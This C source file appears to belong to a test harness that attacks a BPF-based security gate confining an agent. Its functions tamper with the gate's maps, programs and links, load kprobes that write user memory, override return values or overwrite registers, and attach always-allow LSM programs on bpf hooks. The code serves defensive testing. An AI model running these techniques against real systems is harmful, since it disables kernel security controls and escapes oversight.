/* SPDX-License-Identifier: GPL-2.0-or-later */
/* bpf.c - attacks through bpf(2): on maps, programs and links, and by programs of one's own. */
#include "attack.h"

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>
#include <glob.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MOV_IMM(dst, value)                                                                                            \
	{                                                                                                              \
		.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = (dst), .imm = (value)                                  \
	}
#define MOV_REG(dst, src)                                                                                              \
	{                                                                                                              \
		.code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = (dst), .src_reg = (src)                                \
	}
#define CALL(helper)                                                                                                   \
	{                                                                                                              \
		.code = BPF_JMP | BPF_CALL, .imm = (helper)                                                            \
	}
#define EXIT()                                                                                                         \
	{                                                                                                              \
		.code = BPF_JMP | BPF_EXIT                                                                             \
	}

/* Descriptors of the objects of the gate: names begin with "kfg". The first error of one that may be ours is kept. */
static int find_map(const char *name, unsigned flags)
{
	unsigned id = 0;
	int denied = 0;

	while (!bpf_map_get_next_id(id, &id)) {
		union bpf_attr attr = { .map_id = id, .open_flags = flags };
		struct bpf_map_info info = {};
		unsigned len = sizeof(info);
		int fd = syscall(__NR_bpf, BPF_MAP_GET_FD_BY_ID, &attr, sizeof(attr));

		if (fd < 0) {
			denied = -errno;
			continue;
		}
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) && !strcmp(info.name, name))
			return fd;
		close(fd);
	}
	return denied ? denied : -ESRCH;
}

static int find_prog(const char *name, unsigned *ret_id)
{
	unsigned id = 0;
	int denied = 0;

	while (!bpf_prog_get_next_id(id, &id)) {
		struct bpf_prog_info info = {};
		unsigned len = sizeof(info);
		int fd = bpf_prog_get_fd_by_id(id);

		if (fd < 0) {
			denied = -errno;
			continue;
		}
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) && !strncmp(info.name, name, strlen(name))) {
			if (ret_id)
				*ret_id = id;
			return fd;
		}
		close(fd);
	}
	return denied ? denied : -ESRCH;
}

static int map_write(int argc, char **argv)
{
	int fd = find_map("kfg_files", 0), r;
	__u32 key = 1;
	char value[64] = "";

	(void)argc;
	(void)argv;
	if (fd < 0)
		return fd;
	r = bpf_map_update_elem(fd, &key, value, BPF_ANY);
	if (!r)
		(void)bpf_map_delete_elem(fd, &key);
	return r;
}

/* The policy in force: its first cell has the mode. What is there is written again. */
static int table_write(int argc, char **argv)
{
	int fd = find_map("kfg_table", 0), r;
	char cell[4096];
	__u32 zero = 0;

	(void)argc;
	(void)argv;
	if (fd < 0)
		return fd;
	r = bpf_map_lookup_elem(fd, &zero, cell);
	return r ? r : bpf_map_update_elem(fd, &zero, cell, BPF_ANY);
}

/* A read-only descriptor is enough for a program that writes. */
static int map_write_by_program(int argc, char **argv)
{
	int fd = find_map("kfg_loaders", BPF_F_RDONLY), prog;
	LIBBPF_OPTS(bpf_test_run_opts, run);
	char packet[64] = "";
	struct bpf_insn insns[] = {
		{ .code = BPF_ST | BPF_MEM | BPF_DW, .dst_reg = 10, .off = -8, .imm = 1 },
		{ .code = BPF_LD | BPF_DW | BPF_IMM, .dst_reg = 1, .src_reg = BPF_PSEUDO_MAP_FD, .imm = fd },
		{},
		MOV_REG(2, 10),
		{ .code = BPF_ALU64 | BPF_ADD | BPF_K, .dst_reg = 2, .imm = -8 },
		CALL(BPF_FUNC_map_delete_elem),
		MOV_IMM(0, 0),
		EXIT(),
	};

	(void)argc;
	(void)argv;
	if (fd < 0)
		return fd;
	prog = bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "attack", "GPL", insns, 8, NULL);
	if (prog < 0)
		return -errno;
	run.data_in = packet;
	run.data_size_in = sizeof(packet);
	return result(bpf_prog_test_run_opts(prog, &run));
}

static int map_freeze(int argc, char **argv)
{
	int fd = find_map(argc > 0 ? argv[0] : "kfg_loaders", 0);

	return fd < 0 ? fd : result(bpf_map_freeze(fd));
}

static int get_pin(const char *pattern)
{
	const char *path = find_path(pattern);

	return path ? result(bpf_obj_get(path)) : NOTHING;
}

static int map_pin(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	return get_pin(PINS "/shared/kfg_*");
}

static int prog_fd(int argc, char **argv)
{
	int fd = find_prog("kfgate_", NULL);

	(void)argc;
	(void)argv;
	return fd < 0 ? fd : 0;
}

/* The same program twice on its hook: what it keeps between its runs would no longer be true. */
static int prog_attach(int argc, char **argv)
{
	int fd = find_prog("kfgate_prog", NULL);

	(void)argc;
	(void)argv;
	return fd < 0 ? fd : result(bpf_raw_tracepoint_open(NULL, fd));
}

static int prog_function(int fd, const char *name, enum bpf_prog_type type, enum bpf_attach_type attach)
{
	struct bpf_insn insns[] = { MOV_IMM(0, 0), EXIT() };
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = attach);
	struct bpf_prog_info info = {};
	unsigned len = sizeof(info);
	struct btf *btf;
	int r;

	if (bpf_obj_get_info_by_fd(fd, &info, &len))
		return -errno;
	btf = btf__load_from_kernel_by_id(info.btf_id);
	if (!btf)
		return -errno;
	opts.attach_prog_fd = fd;
	opts.attach_btf_id = btf__find_by_name_kind(btf, name, BTF_KIND_FUNC);
	r = bpf_prog_load(type, "attack", "GPL", insns, 2, &opts);
	btf__free(btf);
	return r < 0 ? -errno : 0;
}

/* A program of one's own in the place of a function of the gate's. */
static int prog_replace(int argc, char **argv)
{
	int fd = find_prog("kfgate_prog", NULL);

	return fd < 0 ? fd : prog_function(fd, argc > 0 ? argv[0] : "kfg_conclude", BPF_PROG_TYPE_EXT, 0);
}

static int prog_trace(int argc, char **argv)
{
	int fd = find_prog("kfgate_prog", NULL);

	(void)argc;
	(void)argv;
	return fd < 0 ? fd : prog_function(fd, "kfgate_prog", BPF_PROG_TYPE_TRACING, BPF_TRACE_FENTRY);
}

static int prog_run(int argc, char **argv)
{
	LIBBPF_OPTS(bpf_test_run_opts, opts);
	int fd = find_prog(argc > 0 ? argv[0] : "kfgate_guard_no", NULL);

	return fd < 0 ? fd : result(bpf_prog_test_run_opts(fd, &opts));
}

static bool is_named(unsigned prog_id, const char *name)
{
	struct bpf_prog_info info = {};
	unsigned len = sizeof(info);
	int fd = bpf_prog_get_fd_by_id(prog_id);
	bool named = fd >= 0 && !bpf_obj_get_info_by_fd(fd, &info, &len) && !strncmp(info.name, name, strlen(name));

	/* one that cannot be had is ours, too */
	if (fd < 0)
		return true;
	close(fd);
	return named;
}

/* A link of the gate by its id */
static int find_link(void)
{
	unsigned id = 0;
	int denied = 0;

	while (!bpf_link_get_next_id(id, &id)) {
		struct bpf_link_info info = {};
		unsigned len = sizeof(info);
		int fd = bpf_link_get_fd_by_id(id);

		if (fd < 0) {
			denied = -errno;
			continue;
		}
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) && info.type == BPF_LINK_TYPE_TRACING &&
		    is_named(info.prog_id, "kfgate_"))
			return fd;
		close(fd);
	}
	return denied ? denied : -ESRCH;
}

/* What the gate has, by ids that nobody listed: 1, 2, 3 and so on of maps, programs and links. */
static int by_id(int argc, char **argv)
{
	const char *kind = argc > 0 ? argv[0] : "map";

	for (unsigned id = 1; id < 3000; id++) {
		int fd = !strcmp(kind, "map")  ? bpf_map_get_fd_by_id(id) :
			 !strcmp(kind, "prog") ? bpf_prog_get_fd_by_id(id) :
						 bpf_link_get_fd_by_id(id);
		char info[512] = "";
		unsigned len = sizeof(info);
		int found;

		if (fd < 0)
			continue;
		found = !bpf_obj_get_info_by_fd(fd, info, &len) &&
			(!strcmp(kind, "map")  ? !strncmp(((struct bpf_map_info *)info)->name, "kfg_loaders", 11) :
			 !strcmp(kind, "prog") ? !strncmp(((struct bpf_prog_info *)info)->name, "kfgate_", 7) :
						 is_named(((struct bpf_link_info *)info)->prog_id, "kfgate_"));
		close(fd);
		if (found)
			return 0;
	}
	return -ENOENT;
}

static int link_fd(int argc, char **argv)
{
	int fd = find_link();

	(void)argc;
	(void)argv;
	return fd < 0 ? fd : 0;
}

/* Whoever holds a descriptor of a link keeps its program attached. */
static int link_hold(int argc, char **argv)
{
	glob_t found;
	size_t n = 0;

	if (argc < 1 || glob(PINS "/*/*", 0, NULL, &found))
		return NOTHING;
	for (size_t i = 0; i < found.gl_pathc; i++)
		n += bpf_obj_get(found.gl_pathv[i]) >= 0;
	(void)printf("holding %zu\n", n);
	(void)fflush(stdout);
	(void)sleep((unsigned)atoi(argv[0]));
	return n ? 0 : -EPERM;
}

/* Through a pin of a link one gets a descriptor; nothing can be done with it. */
static int link_pin(const char *what)
{
	struct bpf_insn insns[] = { MOV_IMM(0, 0), EXIT() };
	const char *path = find_path(PINS "/*/link_*");
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .expected_attach_type = BPF_LSM_MAC);
	int fd, prog;

	if (!path)
		return NOTHING;
	fd = bpf_obj_get(path);
	if (fd < 0)
		return -errno;
	if (!strcmp(what, "detach"))
		return result(bpf_link_detach(fd));
	opts.attach_btf_id = libbpf_find_vmlinux_btf_id("bpf_prog", BPF_LSM_MAC);
	prog = bpf_prog_load(BPF_PROG_TYPE_LSM, "attack", "GPL", insns, 2, &opts);
	return prog < 0 ? -errno : result(bpf_link_update(fd, prog, NULL));
}

static int link_detach(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	return link_pin("detach");
}

static int link_update(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	return link_pin("update");
}

static int load_kprobe(const struct bpf_insn *insns, size_t n)
{
	int fd = bpf_prog_load(BPF_PROG_TYPE_KPROBE, "attack", "GPL", insns, n, NULL);

	return fd < 0 ? -errno : 0;
}

static int write_user(int argc, char **argv)
{
	struct bpf_insn insns[] = {
		{ .code = BPF_ST | BPF_MEM | BPF_DW, .dst_reg = 10, .off = -8 },
		{ .code = BPF_LDX | BPF_MEM | BPF_DW, .dst_reg = 1, .src_reg = 1, .off = 32 },
		MOV_REG(2, 10),
		{ .code = BPF_ALU64 | BPF_ADD | BPF_K, .dst_reg = 2, .imm = -8 },
		MOV_IMM(3, 8),
		CALL(BPF_FUNC_probe_write_user),
		MOV_IMM(0, 0),
		EXIT(),
	};

	(void)argc;
	(void)argv;
	return load_kprobe(insns, 8);
}

static int override_return(int argc, char **argv)
{
	struct bpf_insn insns[] = { MOV_IMM(2, 0), CALL(BPF_FUNC_override_return), MOV_IMM(0, 0), EXIT() };

	(void)argc;
	(void)argv;
	return load_kprobe(insns, 4);
}

/* struct pt_regs, x86-64: ip is at 128. A uprobe of the agent's code that writes there runs what it likes. */
static int write_registers(int argc, char **argv)
{
	struct bpf_insn insns[] = {
		MOV_IMM(2, 0),
		{ .code = BPF_STX | BPF_MEM | BPF_DW, .dst_reg = 1, .src_reg = 2, .off = 128 },
		MOV_IMM(0, 0),
		EXIT(),
	};

	(void)argc;
	(void)argv;
	return load_kprobe(insns, 4);
}

/* Programs that say yes, on the hooks and on the functions that call them; they stay until the process is killed. */
static int say_yes(int argc, char **argv)
{
	static const char *const hooks[] = { "bpf_prog_load", "bpf_prog", "bpf" };
	struct bpf_insn insns[] = { MOV_IMM(0, 0), EXIT() };
	struct btf *btf = btf__load_vmlinux_btf();
	int n = 0;

	for (size_t i = 0; btf && i < sizeof(hooks) / sizeof(hooks[0]); i++)
		for (int modify = 0; modify < 2; modify++) {
			LIBBPF_OPTS(bpf_prog_load_opts, opts);
			char name[64];
			int fd;

			snprintf(name, sizeof(name), "%s_%s", modify ? "security" : "bpf_lsm", hooks[i]);
			opts.attach_btf_id = btf__find_by_name_kind(btf, name, BTF_KIND_FUNC);
			opts.expected_attach_type = modify ? BPF_MODIFY_RETURN : BPF_LSM_MAC;
			fd = bpf_prog_load(modify ? BPF_PROG_TYPE_TRACING : BPF_PROG_TYPE_LSM, "attack", "GPL", insns,
					   2, &opts);
			if (fd >= 0 && bpf_raw_tracepoint_open(NULL, fd) >= 0)
				n++;
		}
	if (!n)
		return -EINVAL;
	printf("%d programs say yes\n", n);
	fflush(stdout);
	if (argc > 0)
		sleep(atoi(argv[0]));
	(void)argv;
	return 0;
}

const struct attack attacks_bpf[] = {
	{ "map-write", map_write, "write to a map of the gate" },
	{ "table-write", table_write, "write to the policy in force" },
	{ "map-by-program", map_write_by_program, "the same by a program, with a read-only descriptor" },
	{ "map-freeze", map_freeze, "freeze a map, so that the agent cannot write either" },
	{ "map-pin", map_pin, "a map by its pin" },
	{ "prog-fd", prog_fd, "a descriptor of a program of the gate" },
	{ "prog-attach", prog_attach, "attach a program of the gate a second time" },
	{ "prog-replace", prog_replace, "put a program in the place of a function of the gate" },
	{ "prog-trace", prog_trace, "hang a program on one of the gate" },
	{ "prog-run", prog_run, "run a program of the agent's own" },
	{ "by-id", by_id, "a descriptor by an id that was not listed: map, prog or link" },
	{ "link-fd", link_fd, "a descriptor of a link by its id" },
	{ "link-hold", link_hold, "SECONDS: holds descriptors of all links by their pins" },
	{ "link-detach", link_detach, "detach a link by its pin" },
	{ "link-update", link_update, "put another program into a link by its pin" },
	{ "write-user", write_user, "load a program that writes to the memory of others" },
	{ "override-return", override_return, "load a program that changes results of system calls" },
	{ "write-registers", write_registers, "load a program that writes registers of what it traces" },
	{ "say-yes", say_yes, "attach programs that return 0 on the same hooks" },
	{},
};
